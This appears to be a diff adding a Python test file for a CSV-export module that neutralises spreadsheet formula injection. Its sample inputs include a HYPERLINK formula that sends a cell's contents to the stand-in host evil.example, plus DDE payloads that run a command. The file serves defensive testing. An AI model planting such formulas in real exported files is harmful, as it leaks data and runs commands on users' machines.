@@ -1,0 +1,85 @@
+"""Spreadsheet formula injection (OWASP "CSV injection"): a text cell that a spreadsheet would run
+as a formula is written as text in tables/*.csv; numbers are untouched."""
+
+from __future__ import annotations
+
+import csv
+import io
+from pathlib import Path
+
+import pandas as pd
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from assess.report.outputs import ChapterOutputs
+from assess.report.safe_text import FORMULA_TRIGGERS, is_formula_like, neutralise_formula
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "=1+1",
+]
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_a_formula_becomes_text(text: str) -> None:
+    safe = neutralise_formula(text)
+    assert safe.startswith("'") and safe[1:] == text
+    assert not is_formula_like(safe)
+
+
+@pytest.mark.parametrize("text", ["-3", "-1.5", "+4", "-1.5e3", "1,234", "[c]", "Bassett", "", "A-B", "e-mail@x"])
+def test_numbers_and_plain_text_are_untouched(text: str) -> None:
+    assert neutralise_formula(text) == text
+
+
+@given(st.text())
+def test_neutralised_text_never_starts_a_formula_and_keeps_the_text(text: str) -> None:
+    safe = neutralise_formula(text)
+    assert not is_formula_like(safe)
+    assert safe in (text, "'" + text)
+    assert neutralise_formula(safe) == safe  # idempotent
+
+
+@given(st.one_of(st.integers(), st.floats(allow_nan=False, allow_infinity=False)))
+def test_a_number_written_as_text_is_untouched(number: float) -> None:
+    assert neutralise_formula(str(number)) == str(number)
+
+
+def test_triggers_are_owasps() -> None:
+    assert set("=+-@\t\r") <= set(FORMULA_TRIGGERS)
+
+
+def _rows(path: Path) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))
+
+
+def test_published_csv_cells_and_headers_are_neutralised_numbers_kept(tmp_path: Path) -> None:
+    df = pd.DataFrame({
+        "ward": ['=HYPERLINK("http://evil.example","x")', "@cmd", "Bassett", "-Minus ward"],
+        "=header": ["+evil", "ok", "x", "y"],
+        "crimes": [120, -3, 40, 57],
+        "change": [-1.5, 2.25, -0.5, 0.0],
+    })
+    out = ChapterOutputs(tmp_path, "03_places")
+    out.table("wards", df, caption="Crimes by ward", count_columns=[], display=False)
+    rows = _rows(tmp_path / "tables" / "03_places__wards.csv")
+    assert rows[0] == ["ward", "'=header", "crimes", "change"]
+    assert [r[0] for r in rows[1:]] == ["'=HYPERLINK(\"http://evil.example\",\"x\")", "'@cmd", "Bassett", "'-Minus ward"]
+    assert [r[1] for r in rows[1:]] == ["'+evil", "ok", "x", "y"]
+    assert [r[2] for r in rows[1:]] == ["120", "-3", "40", "57"]
+    assert [r[3] for r in rows[1:]] == ["-1.5", "2.25", "-0.5", "0.0"]
+    for row in rows:
+        assert not any(is_formula_like(cell) for cell in row), row
+
+
+def test_a_ward_named_like_a_formula_in_an_object_column_with_numbers(tmp_path: Path) -> None:
+    df = pd.DataFrame({"value": pd.Series(["=1+2", 3, -4.5, None], dtype=object)})
+    ChapterOutputs(tmp_path, "03_places").table("mixed", df, caption="Mixed", suppress=False, display=False)
+    rows = _rows(tmp_path / "tables" / "03_places__mixed.csv")
+    assert [r[0] for r in rows[1:]] == ["'=1+2", "3", "-4.5", ""]
